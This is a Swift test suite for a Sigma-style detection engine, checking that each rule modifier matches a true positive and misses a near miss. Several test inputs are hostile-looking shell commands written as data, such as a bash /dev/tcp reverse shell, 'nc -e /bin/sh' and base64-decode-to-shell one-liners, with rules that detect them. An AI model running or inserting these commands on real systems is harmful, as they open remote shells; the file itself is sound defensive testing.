import Testing
import MamoriDetection
import MamoriEvents

/// Every value modifier, each with a true positive and a near miss.
@Suite struct ModifierTests {
    private func harness(_ detection: String, category: String = "process_creation") -> Harness {
        let h = Harness(Fixture.rule("r", category: category, detection))
        #expect(h.errors.isEmpty, "\(h.errors)")
        return h
    }

    private func cli(_ h: Harness, _ commandLine: String, exe: String = "/usr/bin/x") -> Bool {
        h.fires(exe, commandLine.split(separator: " ").map(String.init))
    }

    @Test func containsStartswithEndswith() {
        let c = harness("    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel")
        #expect(cli(c, "bash -i >& /dev/tcp/10.0.0.1/4444"))
        #expect(!cli(c, "bash -i /dev/tc/10.0.0.1"))
        let s = harness("    sel:\n        CommandLine|startswith: 'curl -s'\n    condition: sel")
        #expect(cli(s, "curl -s http://x"))
        #expect(!cli(s, "xcurl -s http://x"))
        let e = harness("    sel:\n        Image|endswith: '/nc'\n    condition: sel")
        #expect(e.fires("/usr/bin/nc", []))
        #expect(!e.fires("/usr/bin/ncat", []))
        let x = harness("    sel:\n        Image: '/usr/bin/nc'\n    condition: sel")
        #expect(x.fires("/usr/bin/nc", []))
        #expect(!x.fires("/usr/bin/nc.openbsd", []))
    }

    @Test func allRequiresEveryValue() {
        let h = harness("    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - '/bin/sh'\n    condition: sel")
        #expect(cli(h, "nc -e /bin/sh 10.0.0.1"))
        #expect(!cli(h, "nc -e /bin/bash 10.0.0.1"))
        let any = harness("    sel:\n        CommandLine|contains:\n            - ' -e '\n            - '/bin/sh'\n    condition: sel")
        #expect(cli(any, "nc -e /bin/bash 10.0.0.1"))
        #expect(!cli(any, "nc -l 4444"))
    }

    @Test func regexIsCaseSensitiveUnlessI() {
        let h = harness("    sel:\n        CommandLine|re: '\\s-O\\s'\n    condition: sel")
        #expect(cli(h, "wget -O /tmp/x http://a"))
        #expect(!cli(h, "wget -o /tmp/x http://a"))
        let i = harness("    sel:\n        CommandLine|re|i: '\\s-O\\s'\n    condition: sel")
        #expect(cli(i, "wget -o /tmp/x http://a"))
        #expect(!cli(i, "wget --o /tmp/x"))
        let inline = harness("    sel:\n        CommandLine|re: '(?i)BASE64 -D'\n    condition: sel")
        #expect(cli(inline, "base64 -d payload"))
        #expect(!cli(inline, "base64 payload"))
    }

    @Test func regexMultilineAndDotAll() {
        let m = harness("    sel:\n        CommandLine|re|m: '^second'\n    condition: sel")
        #expect(m.fires("/bin/sh", ["sh", "-c", "first\nsecond"]))
        let noM = harness("    sel:\n        CommandLine|re: '^second'\n    condition: sel")
        #expect(!noM.fires("/bin/sh", ["sh", "-c", "first\nsecond"]))
        let s = harness("    sel:\n        CommandLine|re|s: 'first.second'\n    condition: sel")
        #expect(s.fires("/bin/sh", ["sh", "-c", "first\nsecond"]))
        let noS = harness("    sel:\n        CommandLine|re: 'first.second'\n    condition: sel")
        #expect(!noS.fires("/bin/sh", ["sh", "-c", "first\nsecond"]))
    }

    @Test func regexPrefilterNeverHidesAMatch() {
        let long = harness("    sel:\n        TargetFilename|re: '[^/]{100,}$'\n    condition: sel", category: "file_event")
        let name = String(repeating: "a", count: 100)
        #expect(!long.hits(Fixture.file(.create, "/tmp/" + name)).isEmpty)
        #expect(long.hits(Fixture.file(.create, "/tmp/" + String(name.dropFirst()))).isEmpty)
        let literal = harness("    sel:\n        TargetFilename|re: '/mail/tmp/[a-zA-Z0-9]{3}[0-9]{3}\\.tar\\.gz'\n    condition: sel", category: "file_event")
        #expect(!literal.hits(Fixture.file(.create, "/var/mail/tmp/abc123.tar.gz")).isEmpty)
        #expect(literal.hits(Fixture.file(.create, "/var/MAIL/tmp/abc123.tar.gz")).isEmpty)
        let folded = harness("    sel:\n        TargetFilename|re: '(?i)/lib/python3\\.([5-9]|[0-9]{2})/site-packages/'\n    condition: sel", category: "file_event")
        #expect(!folded.hits(Fixture.file(.create, "/usr/LIB/Python3.11/site-packages/x.pth")).isEmpty)
        #expect(folded.hits(Fixture.file(.create, "/usr/lib/python2.7/site-packages/x.pth")).isEmpty)
    }

    @Test func cidrV4AndV6() {
        let h = harness("""
                sel:
                    DestinationIp|cidr:
                        - '10.0.0.0/8'
                        - '172.16.0.0/12'
                        - 'fe80::/10'
                        - '::1/128'
                condition: sel
            """, category: "network_connection")
        #expect(!h.hits(Fixture.network(to: Fixture.ipv4("10.200.3.4"), port: 80)).isEmpty)
        #expect(!h.hits(Fixture.network(to: Fixture.ipv4("172.31.255.255"), port: 80)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv4("172.32.0.1"), port: 80)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv4("11.0.0.1"), port: 80)).isEmpty)
        #expect(!h.hits(Fixture.network(to: Fixture.ipv6([0xfe80, 0, 0, 0, 1, 2, 3, 4]), port: 80)).isEmpty)
        #expect(!h.hits(Fixture.network(to: Fixture.ipv6([0xfebf, 0xffff, 0, 0, 0, 0, 0, 1]), port: 80)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv6([0xfec0, 0, 0, 0, 0, 0, 0, 1]), port: 80)).isEmpty)
        #expect(!h.hits(Fixture.network(to: Fixture.ipv6([0, 0, 0, 0, 0, 0, 0, 1]), port: 80)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv6([0, 0, 0, 0, 0, 0, 0, 2]), port: 80)).isEmpty)
        // IPv4-mapped IPv6 addresses match IPv4 networks.
        #expect(!h.hits(Fixture.network(to: Fixture.ipv6([0, 0, 0, 0, 0, 0xffff, 0x0a01, 0x0203]), port: 80)).isEmpty)
    }

    @Test func exactAddressAndTextMatchOnIPs() {
        let h = harness("    sel:\n        DestinationIp:\n            - '127.0.0.1'\n            - '2001:db8::1'\n    condition: sel", category: "network_connection")
        #expect(!h.hits(Fixture.network(to: Fixture.ipv4("127.0.0.1"), port: 1)).isEmpty)
        #expect(h.hits(Fixture.network(to: Fixture.ipv4("127.0.0.10"), port: 1)).isEmpty)
        #expect(!h.hits(Fixture.network(to: Fixture.ipv6([0x2001, 0xdb8, 0, 0, 0, 0, 0, 1]), port: 1)).isEmpty)
        let text = harness("    sel:\n        DestinationIp|startswith: '192.168.'\n    condition: sel", category: "network_connection")
        #expect(!text.hits(Fixture.network(to: Fixture.ipv4("192.168.7.1"), port: 1)).isEmpty)
        #expect(text.hits(Fixture.network(to: Fixture.ipv4("192.169.7.1"), port: 1)).isEmpty)
    }

    @Test func base64() {
        let h = harness("    sel:\n        CommandLine|base64|contains: 'whoami'\n    condition: sel")
        #expect(cli(h, "echo d2hvYW1p | base64 -d | sh"))
        #expect(!cli(h, "echo D2HVYW1P | base64 -d | sh"))   // base64 text is case-sensitive
    }

    @Test func base64offsetMatchesAllThreeOffsets() {
        let h = harness("    sel:\n        CommandLine|base64offset|contains: '/bin/sh'\n    condition: sel")
        #expect(cli(h, "echo ZWNobyAvYmluL3NoIC1p | base64 -d"))        // offset 2 (5 mod 3)
        #expect(cli(h, "echo eGVjaG8gL2Jpbi9zaCAtaQ== | base64 -d"))    // offset 0
        #expect(cli(h, "echo eHllY2hvIC9iaW4vc2ggLWk= | base64 -d"))    // offset 1
        #expect(!cli(h, "echo ZWNobyAvYmluL2Jhc2g= | base64 -d"))       // echo /bin/bash
    }

    @Test func utf16BeforeBase64() {
        let h = harness("    sel:\n        CommandLine|wide|base64offset|contains: 'ping'\n    condition: sel")
        #expect(cli(h, "x cABpAG4AZwA= y"))
        #expect(!cli(h, "x cGluZw== y"))
        // base64 of UTF-16LE "ping" is cABpAG4AZwA=, of UTF-16BE AHAAaQBuAGc=, with a BOM //5wAGkAbgBnAA==.
        let le = harness("    sel:\n        CommandLine|utf16le|base64: 'ping'\n    condition: sel")
        #expect(cli(le, "cABpAG4AZwA="))
        #expect(!cli(le, "AHAAaQBuAGc="))
        let be = harness("    sel:\n        CommandLine|utf16be|base64: 'ping'\n    condition: sel")
        #expect(cli(be, "AHAAaQBuAGc="))
        #expect(!cli(be, "cABpAG4AZwA="))
        let bom = harness("    sel:\n        CommandLine|utf16|base64: 'ping'\n    condition: sel")
        #expect(cli(bom, "//5wAGkAbgBnAA=="))
        #expect(!cli(bom, "cABpAG4AZwA="))
        let alone = Harness(Fixture.rule("r", "    sel:\n        CommandLine|utf16le: 'ping'\n    condition: sel"))
        #expect(alone.errors.first?.contains("must be followed by 'base64'") == true)
    }

    @Test func windashExpandsOptionDashes() {
        let h = harness("    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel")
        #expect(cli(h, "find . -exec sh"))
        #expect(cli(h, "find . /exec sh"))
        #expect(h.fires("/usr/bin/find", ["find", ".", "\u{2013}exec", "sh"]))
        #expect(!cli(h, "find . exec sh"))
    }

    @Test func numericComparisons() {
        let rule = { (op: String, value: Int) in
            self.harness("    sel:\n        DestinationPort|\(op): \(value)\n    condition: sel", category: "network_connection")
        }
        let port = { (h: Harness, p: UInt16) in !h.hits(Fixture.network(to: Fixture.ipv4("1.2.3.4"), port: p)).isEmpty }
        #expect(port(rule("lt", 1024), 1023)); #expect(!port(rule("lt", 1024), 1024))
        #expect(port(rule("lte", 1024), 1024)); #expect(!port(rule("lte", 1024), 1025))
        #expect(port(rule("gt", 1024), 1025)); #expect(!port(rule("gt", 1024), 1024))
        #expect(port(rule("gte", 1024), 1024)); #expect(!port(rule("gte", 1024), 1023))
        let eq = harness("    sel:\n        DestinationPort:\n            - 4444\n            - '44*'\n    condition: sel", category: "network_connection")
        #expect(port(eq, 4444)); #expect(port(eq, 443)); #expect(!port(eq, 8443))
    }

    @Test func casedIsCaseSensitive() {
        let h = harness("    sel:\n        CommandLine|cased|contains: ' -R '\n    condition: sel")
        #expect(cli(h, "ls -R /"))
        #expect(!cli(h, "ls -r /"))
        let plain = harness("    sel:\n        CommandLine|contains: ' -R '\n    condition: sel")
        #expect(cli(plain, "ls -r /"))
    }

    @Test func existsAndNull() {
        let exists = harness("    sel:\n        ParentImage|exists: true\n    condition: sel")
        #expect(exists.fires("/bin/x", [], parent: Fixture.record(pid: 50, "/bin/bash")))
        #expect(!exists.fires("/bin/x", []))
        let missing = harness("    sel:\n        ParentImage|exists: false\n    condition: sel")
        #expect(missing.fires("/bin/x", []))
        #expect(!missing.fires("/bin/x", [], parent: Fixture.record(pid: 50, "/bin/bash")))
        let null = harness("    sel:\n        Image|endswith: /x\n    empty:\n        ParentCommandLine: null\n    condition: sel and not empty")
        #expect(null.fires("/bin/x", [], parent: Fixture.record(pid: 50, "/bin/bash")))
        #expect(!null.fires("/bin/x", []))
        let emptyString = harness("    sel:\n        CommandLine: ''\n    condition: sel")
        #expect(emptyString.fires("/bin/x", []))
        #expect(!emptyString.fires("/bin/x", ["x"]))
    }

    @Test func fieldref() {
        let h = harness("    sel:\n        Image|fieldref: ParentImage\n    condition: sel")
        #expect(h.fires("/bin/bash", [], parent: Fixture.record(pid: 50, "/bin/bash")))
        #expect(!h.fires("/bin/bash", [], parent: Fixture.record(pid: 50, "/bin/sh")))
        let c = harness("    sel:\n        ParentCommandLine|fieldref|contains: Image\n    condition: sel")
        #expect(c.fires("/tmp/x", [], parent: Fixture.record(pid: 50, "/bin/sh", ["sh", "-c", "/tmp/x"])))
        #expect(!c.fires("/tmp/y", [], parent: Fixture.record(pid: 50, "/bin/sh", ["sh", "-c", "/tmp/x"])))
    }

    @Test func expandAndUnknownModifiersAreRejected() {
        let expand = Harness(Fixture.rule("r", "    sel:\n        User|expand: '%Admins%'\n    condition: sel"))
        #expect(expand.errors.count == 1)
        #expect(expand.errors.first?.contains("'expand' needs placeholder values") == true)
        let unknown = Harness(Fixture.rule("r", "    sel:\n        Image|endswith|bogus: x\n    condition: sel"))
        #expect(unknown.errors.first?.contains("unknown modifier 'bogus'") == true)
        let conflict = Harness(Fixture.rule("r", "    sel:\n        Image|endswith|startswith: x\n    condition: sel"))
        #expect(conflict.errors.first?.contains("cannot be combined") == true)
        let textLt = Harness(Fixture.rule("r", "    sel:\n        Image|lt: 5\n    condition: sel"))
        #expect(textLt.errors.first?.contains("needs a numeric field") == true)
        let badCidr = Harness(Fixture.rule("r", category: "network_connection", "    sel:\n        DestinationIp|cidr: 10.0.0.0/33\n    condition: sel"))
        #expect(badCidr.errors.first?.contains("invalid network") == true)
        let badRegex = Harness(Fixture.rule("r", "    sel:\n        CommandLine|re: '(unclosed'\n    condition: sel"))
        #expect(badRegex.errors.first?.contains("invalid regular expression") == true)
    }
}
